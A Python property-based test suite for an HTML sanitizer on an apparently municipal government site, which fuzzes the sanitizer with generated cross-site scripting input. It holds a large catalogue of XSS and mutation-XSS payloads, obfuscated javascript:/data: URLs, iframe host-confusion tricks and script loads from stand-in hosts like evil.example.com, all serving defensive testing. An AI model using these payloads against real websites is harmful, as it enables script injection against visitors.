"""The raw-HTML sanitizer (plugins/gov_sanitize) against generated hostile snippets (issue 9 part 4).

Hypothesis writes snippets the way attackers and careless pastes do — ``<script>`` in many
spellings, ``on*`` handlers with odd case and whitespace, ``javascript:`` hidden behind entities,
tabs and newlines, ``data:``/``vbscript:`` URLs, ``style=``, ``<iframe src>`` from random and
look-alike hosts, ``<svg onload>``, ``<math>`` and other mutation-XSS tricks — and every output of
``gov_sanitize.sanitize`` is parsed again the way a browser would (selectolax/lexbor, HTML5) and
must hold:

* no element outside the sanitizer's allow-list: no script, style, svg, math, object, embed,
  form, base, meta, link, frame …;
* no attribute outside the allow-list: none starting with ``on``, no ``style``, no ``srcdoc``;
* no URL attribute whose scheme — after the parser's entity decoding, with ASCII whitespace and
  control characters removed as a browser's URL parser does — is javascript, data or vbscript;
* no ``<iframe src>`` unless the browser would load it over https from an allow-listed host
  (the host computed like the WHATWG URL parser: ``\\`` is ``/``, userinfo dropped).
"""

from __future__ import annotations

import re
from urllib.parse import unquote

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from gov_sanitize.gov_sanitize import ATTRIBUTES, TAGS, sanitize

ALLOWED_HOSTS = frozenset({"v.jiangnan.gov.cn", "live.jiangnan.gov.cn"})
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "data", "cite", "longdesc",
             "usemap", "dynsrc", "lowsrc", "ping", "codebase", "manifest", "icon", "profile", "srcset", "to", "from",
             "values", "by"}
STRUCTURE = {"html", "head", "body", "tbody"}  # what the re-parse adds around a fragment

SETTINGS = settings(max_examples=300, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


# ---------------------------------------------------------------------------------------------
# the oracle

def url_scheme_is_bad(value: str) -> bool:
    """A browser's view: leading/trailing C0 controls and spaces stripped, tabs and newlines removed
    anywhere (we remove every control character and space: stricter), scheme case-insensitive."""
    squeezed = re.sub(r"[\x00-\x20\x7f]", "", value).lower()
    return squeezed.startswith(BAD_SCHEMES)


def browser_host(url: str) -> tuple[str, str]:
    """(scheme, host) as the WHATWG URL parser sees an absolute URL ("", "") for a relative one."""
    u = re.sub(r"[\t\n\r]", "", url).strip("".join(chr(c) for c in range(0x21)))
    m = re.match(r"^([A-Za-z][A-Za-z0-9+.-]*):(.*)$", u, re.S)
    if not m:
        return "", ""
    scheme, rest = m.group(1).lower(), m.group(2)
    if scheme in ("http", "https", "ws", "wss", "ftp", "file"):
        rest = rest.replace("\\", "/")
        rest = rest.lstrip("/")  # a special scheme ignores any number of slashes before the host
    elif rest.startswith("//"):
        rest = rest[2:]
    else:
        return scheme, ""
    authority = re.split(r"[/?#]", rest, maxsplit=1)[0]
    host = authority.rsplit("@", 1)[-1]
    if not host.startswith("["):
        host = host.split(":", 1)[0]
    return scheme, unquote(host).lower().rstrip(".")


def problems_in(output: str, allowed_hosts=ALLOWED_HOSTS) -> list[str]:
    tree = LexborHTMLParser(f"<!DOCTYPE html><html><head></head><body>{output}</body></html>")
    found = []
    for node in tree.css("*"):
        tag = (node.tag or "").lower()
        if tag in STRUCTURE:
            continue
        if tag not in TAGS:
            found.append(f"element <{tag}> is not on the allow-list")
        allowed_attrs = ATTRIBUTES.get("*", set()) | ATTRIBUTES.get(tag, set())
        for name, value in node.attributes.items():
            lname = name.lower()
            value = value or ""
            if lname.startswith("on"):
                found.append(f"<{tag} {name}>: event handler")
            if lname in ("style", "srcdoc"):
                found.append(f"<{tag} {name}>: {lname} attribute")
            if lname not in allowed_attrs:
                found.append(f"<{tag} {name}>: attribute not on the allow-list")
            if lname in URL_ATTRS:
                parts = value.split(",") if lname == "srcset" else [value]
                for part in parts:
                    if url_scheme_is_bad(part.strip().split(" ")[0] if lname == "srcset" else part):
                        found.append(f"<{tag} {name}={value!r}>: {part.strip()[:40]!r} is a script/data URL")
        if tag == "iframe":
            src = node.attributes.get("src")
            if src is not None:
                scheme, host = browser_host(src)
                if scheme != "https" or host not in allowed_hosts:
                    found.append(f"<iframe src={src!r}>: a browser loads {scheme or 'a relative URL'}://{host} "
                                 f"which is not an allow-listed https host")
    return found


def assert_safe(snippet: str, allowed_hosts=ALLOWED_HOSTS) -> str:
    output = sanitize(snippet, allowed_hosts)
    bad = problems_in(output, allowed_hosts)
    assert not bad, f"sanitize({snippet!r})\n  = {output!r}\n" + "\n".join(f"  - {b}" for b in bad)
    return output


# ---------------------------------------------------------------------------------------------
# hostile snippets

def _case(draw, word: str) -> str:
    flips = draw(st.lists(st.booleans(), min_size=len(word), max_size=len(word)))
    return "".join(c.upper() if f else c for c, f in zip(word, flips))


@st.composite
def obfuscated(draw, word: str) -> str:
    """``word`` with random case, and each character possibly an entity or preceded by a tab,
    newline or an entity for one (``&Tab;``, ``&NewLine;``, ``&#x09;``)."""
    out = []
    for ch in _case(draw, word):
        kind = draw(st.integers(0, 9))
        if kind == 1:
            out.append(f"&#{ord(ch)};")
        elif kind == 2:
            out.append(f"&#x{ord(ch):x};")
        elif kind == 3:
            out.append(f"&#{ord(ch):07d}")  # zero-padded, no semicolon
        elif kind == 4:
            out.append(draw(st.sampled_from(["\t", "\n", "\r", "&Tab;", "&NewLine;", "&#x09;", "&#10;", "&#13;"])) + ch)
        elif kind == 5 and ch == ":":
            out.append(draw(st.sampled_from(["&colon;", "&#58;", "&#x3a;", "&#x3A"])))
        else:
            out.append(ch)
    return "".join(out)


PREFIXES = st.sampled_from(["", " ", "  ", "\t", "\n", "\x01", "\x0b", "\x1f", "&#32;", "&#x20;", "&#0;", "&#1;",
                            "&nbsp;", "\u00a0", "\ufeff", "\u200b"])
PAYLOADS = st.sampled_from(["alert(1)", "alert`1`", "//%0aalert(1)", "text/html,<script>alert(1)</script>",
                            "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                            "image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "msgbox(1)", "void(0)", ""])


@st.composite
def evil_urls(draw) -> str:
    scheme = draw(st.sampled_from(["javascript:", "vbscript:", "data:", "livescript:", "jav&#x0A;ascript:"]))
    return draw(PREFIXES) + draw(obfuscated(scheme)) + draw(PAYLOADS)


EVIL_HOSTS = ["evil.example.com", "evil.com", "127.0.0.1", "[::1]", "v.jiangnan.gov.cn.evil.com", "v-jiangnan.gov.cn",
              "jiangnan.gov.cn", "www.jiangnan.gov.cn", "xn--v-jiangnan-gov-cn.com"]


@st.composite
def iframe_urls(draw) -> str:
    allowed = draw(st.sampled_from(sorted(ALLOWED_HOSTS)))
    evil = draw(st.sampled_from(EVIL_HOSTS))
    host = draw(st.sampled_from([
        allowed, allowed.upper(), f"{allowed}:443", f"{allowed}:8443", f"a.{allowed}", f"{allowed}.",
        f"{allowed}@{evil}", f"{evil}@{allowed}", f"{evil}\\@{allowed}", f"{evil}%5C@{allowed}", f"{evil}/@{allowed}",
        f"{evil}?@{allowed}", f"{evil}#@{allowed}", f"{evil}:x@{allowed}", f"{evil}\t@{allowed}", f"{evil}&#92;@{allowed}",
        f"{evil}&bsol;@{allowed}", f"{evil}%2F@{allowed}", f"{allowed}%2F@{evil}", evil, f"{allowed}\\.{evil}",
    ]))
    scheme = draw(st.sampled_from(["https://", "HTTPS://", "http://", "//", "https:", "https:/", "https:\\\\", "https:/\\",
                                   " https://", "ftp://", "javascript://", "https://\t"]))
    path = draw(st.sampled_from(["/", "/live/1", "", "/x?y=1#z", "\\x", "/%2e%2e/"]))
    return scheme + host + path


QUOTES = st.sampled_from(['"', "'", "", "`"])
HANDLERS = st.sampled_from(["onclick", "onload", "onerror", "onmouseover", "onfocus", "ontoggle", "onbegin",
                            "onanimationstart", "onpointerenter", "onx", "on", "onreadystatechange", "formaction"])
WS = st.sampled_from([" ", "  ", "\t", "\n", "\r\n", "\x0c", "/", " /", "\n\t "])


@st.composite
def attr(draw, name: str, value: str) -> str:
    q = draw(QUOTES)
    if q == "" and any(c in value for c in " \t\n>"):
        q = '"'
    return f"{draw(WS)}{name}{draw(st.sampled_from(['=', ' = ', '=\n', ' =']))}{q}{value}{q}"


URL_TAGS = [("a", "href"), ("img", "src"), ("iframe", "src"), ("form", "action"), ("button", "formaction"),
            ("object", "data"), ("embed", "src"), ("video", "poster"), ("table", "background"), ("blockquote", "cite"),
            ("q", "cite"), ("base", "href"), ("link", "href"), ("area", "href"), ("input", "src"),
            ("img", "srcset"), ("a", "xlink:href"), ("source", "src"), ("track", "src"), ("frame", "src")]


@st.composite
def url_element(draw) -> str:
    tag, name = draw(st.sampled_from(URL_TAGS))
    value = draw(st.one_of(evil_urls(), iframe_urls() if tag == "iframe" else evil_urls()))
    if name == "srcset":
        value = f"ok.png 1x, {value} 2x"
    return f"<{_case(draw, tag)}{draw(attr(name, value))}>链接</{tag}>"


@st.composite
def handler_element(draw) -> str:
    tag = draw(st.sampled_from(["img", "p", "a", "div", "body", "svg", "details", "video", "input", "marquee", "td",
                                "iframe", "x"]))
    handler = _case(draw, draw(HANDLERS))
    extra = " src=x" if tag in ("img", "video", "iframe") else ""
    return f"<{tag}{extra}{draw(attr(handler, draw(st.sampled_from(['alert(1)', 'javascript:alert(1)', '&#97;lert(1)']))))}>x</{tag}>"


@st.composite
def style_element(draw) -> str:
    value = draw(st.sampled_from(["color:red", "background:url(javascript:alert(1))", "width:expression(alert(1))",
                                  "-moz-binding:url(//evil/x.xml#x)", "behavior:url(x.htc)", "position:fixed;top:0"]))
    tag = draw(st.sampled_from(["p", "span", "div", "td", "a", "img"]))
    return f"<{tag}{draw(attr(_case(draw, 'style'), value))}>样式</{tag}>"


SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>script>alert(1)<</script>/script>",
    "<script >alert(1)</script >", "</script><script>alert(1)</script>", "<script type=module>import'//evil'</script>",
    "<ScRiPt>alert(1)</sCrIpT>", "<script>alert(1)", "<script src=data:,alert(1)></script>",
    "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><g/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<style></style><img src=x onerror=alert(1)>",
    "<style>@import'//evil/x.css';</style>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if]><script>alert(1)</script -->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<template><script>alert(1)</script></template>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<base href=javascript:alert(1)//>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=//evil/x.html>", "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=image>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<frameset onload=alert(1)>", "<marquee onstart=alert(1)>", "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>", "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
]
BENIGN = ["<p>江南市人民政府</p>", "<table><tr><th scope=row>项目</th><td colspan=2>值</td></tr></table>",
          "<a href=\"https://www.jiangnan.gov.cn/\">门户</a>", "<img src=\"../files/a.png\" alt=\"图\">", "文本 &amp; 实体",
          "<ul><li>一</li><li>二</li></ul>", "<iframe src=\"https://v.jiangnan.gov.cn/live/1\"></iframe>", "<br>", "<hr>"]

PIECES = st.one_of(st.sampled_from(SCRIPTS), url_element(), handler_element(), style_element(),
                   st.sampled_from(BENIGN), st.text(max_size=20))
WRAPPERS = ["<p>{}</p>", "<div>{}</div>", "<table><tr><td>{}</td></tr></table>", "<a href=x>{}</a>", "<ul><li>{}</li></ul>",
            "<svg>{}</svg>", "<math>{}</math>", "<noscript>{}</noscript>", "<template>{}</template>", "<select>{}</select>",
            "<table>{}</table>", "<p title=\"{}\">x</p>", "<!-- {} -->", "{}"]
SNIPPETS = st.recursive(PIECES, lambda inner: st.one_of(
    st.lists(inner, min_size=1, max_size=4).map("".join),
    st.tuples(st.sampled_from(WRAPPERS), inner).map(lambda t: t[0].format(t[1]))), max_leaves=8)


# ---------------------------------------------------------------------------------------------
# tests

def test_the_oracle_catches_what_it_should():
    """The checks themselves would fail on unsafe output (so a passing fuzz means something)."""
    assert problems_in("<script>alert(1)</script>")
    assert problems_in("<p onclick=x>y</p>")
    assert problems_in("<p style=color:red>y</p>")
    assert problems_in("<a href=\"&#x6A;avascript:x\">y</a>")
    assert problems_in("<a href=\" java\tscript:x\">y</a>")
    assert problems_in("<img src=\"DATA:image/png;base64,AA\">")
    assert problems_in("<iframe src=\"https://evil.example.com/\"></iframe>")
    assert problems_in("<iframe src=\"https://evil.example.com\\@v.jiangnan.gov.cn/\"></iframe>")
    assert not problems_in("<iframe src=\"https://v.jiangnan.gov.cn/live/1\"></iframe>")
    assert not problems_in("<a href=\"https://www.jiangnan.gov.cn/\">x</a><img src=\"a.png\" alt=\"\">")
    assert browser_host("https://evil.com\\@v.jiangnan.gov.cn/x") == ("https", "evil.com")
    assert browser_host("https://a@v.jiangnan.gov.cn:443/x") == ("https", "v.jiangnan.gov.cn")


def test_benign_content_survives():
    out = sanitize("".join(BENIGN), ALLOWED_HOSTS)
    for kept in ("江南市人民政府", "<th scope=\"row\">", "colspan=\"2\"", "https://www.jiangnan.gov.cn/",
                 "../files/a.png", "https://v.jiangnan.gov.cn/live/1", "<li>二</li>"):
        assert kept in out, (kept, out)


def test_known_hostile_snippets():
    failures = []
    for snippet in SCRIPTS:
        try:
            assert_safe(snippet)
        except AssertionError as exc:
            failures.append(str(exc))
    assert not failures, "\n\n".join(failures)


@SETTINGS
@given(snippet=SNIPPETS)
def test_generated_hostile_html_is_neutralised(snippet):
    assert_safe(snippet)


@SETTINGS
@given(url=evil_urls(), tag_attr=st.sampled_from(URL_TAGS), quote=QUOTES)
def test_script_and_data_urls_never_survive(url, tag_attr, quote):
    tag, name = tag_attr
    if quote == "" and any(c in url for c in " \t\n>"):
        quote = '"'
    assert_safe(f"<{tag} {name}={quote}{url}{quote}>x</{tag}>")


@SETTINGS
@example(url="https://evil.example.com\\@v.jiangnan.gov.cn/live/1")
@example(url="https://evil.example.com&#92;@v.jiangnan.gov.cn/live/1")
@given(url=iframe_urls())
def test_iframes_only_from_allow_listed_hosts(url):
    """What the browser would load must be an allow-listed host — however the URL is spelled."""
    assert_safe(f'<iframe src="{url}" width="640" height="360"></iframe>')


@SETTINGS
@given(snippet=SNIPPETS)
def test_sanitizing_twice_changes_nothing_more(snippet):
    """The output is a fixed point: what the build stores is already what a second pass would keep
    (no construct that only turns dangerous after a re-parse)."""
    once = sanitize(snippet, ALLOWED_HOSTS)
    twice = sanitize(once, ALLOWED_HOSTS)
    assert not problems_in(twice)
    assert sanitize(twice, ALLOWED_HOSTS) == twice
